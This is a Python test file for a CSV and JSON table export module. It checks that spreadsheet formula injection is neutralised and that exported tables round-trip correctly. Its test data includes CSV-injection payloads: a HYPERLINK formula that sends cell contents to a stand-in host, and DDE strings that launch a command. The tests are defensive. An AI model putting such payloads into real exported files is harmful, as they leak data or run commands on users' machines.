"""Tables as text: what a peer wrote is never a formula, and what was read comes back."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as some

from implant_gui.domain.table_text import TextTable, as_csv, as_json, harmless

CELLS = some.one_of(some.none(), some.text(some.characters(exclude_categories=["Cs"])))
TABLES = some.integers(1, 4).flatmap(
    lambda width: some.builds(
        TextTable,
        some.tuples(*[some.text(some.characters(exclude_categories=["Cs"]))] * width),
        some.lists(some.tuples(*[CELLS] * width), max_size=5).map(tuple),
    )
)


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://evil.invalid?x="&A1)',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "＝1+1",
    ],
)
def test_what_would_be_a_formula_begins_with_an_apostrophe(formula: str) -> None:
    assert harmless(formula) == f"'{formula}"


@pytest.mark.parametrize("text", ["", "12", "-12", "+3.5", "-1.5e-3", "-12,5", "ACME", "5=5", "12 %", "-50%"])
def test_numbers_and_plain_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_a_cell_cannot_end_early_whatever_divides_the_cells() -> None:
    text = as_csv(TextTable(("Name",), (('x;=1+1,=2"',),)))
    assert text == '"Name"\r\n"x;=1+1,=2"""\r\n'


@given(TABLES)
def test_every_table_can_be_read_again(table: TextTable) -> None:
    read = list(csv.reader(io.StringIO(as_csv(table), newline="")))
    wanted = [[harmless(cell or "") for cell in row] for row in (table.headers, *table.rows)]
    assert read == wanted
    assert not any(cell[:1] in "=@" and cell for row in read for cell in row)


def test_json_has_null_for_what_was_not_returned_and_no_column_is_lost() -> None:
    table = TextTable(("Name", "Size", "Name"), (("Stem", None, "Schaft"), ("", "12", "=1")))
    assert json.loads(as_json(table)) == [
        {"Name": "Stem", "Size": None, "Name (2)": "Schaft"},
        {"Name": "", "Size": "12", "Name (2)": "=1"},
    ]
